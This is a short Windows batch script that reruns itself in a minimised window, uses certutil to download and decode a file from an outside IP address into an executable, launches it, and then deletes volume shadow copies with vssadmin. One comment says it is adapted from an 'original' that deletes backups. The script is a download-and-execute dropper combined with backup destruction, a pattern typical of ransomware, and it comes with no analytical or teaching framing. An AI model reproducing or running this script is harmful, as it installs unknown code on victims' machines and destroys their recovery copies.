@echo off
if not "%1"=="h" (start /min cmd /c "%~f0" h & exit)
certutil -urlcache -f http://192.0.2.131/l.dat %TEMP%\l.dat >nul
certutil -decode %TEMP%\l.dat %TEMP%\l.exe >nul
start "" %TEMP%\l.exe
REM the rest of the original deletes backups; here the service has no name
vssadmin delete shadows /for=Q: /quiet
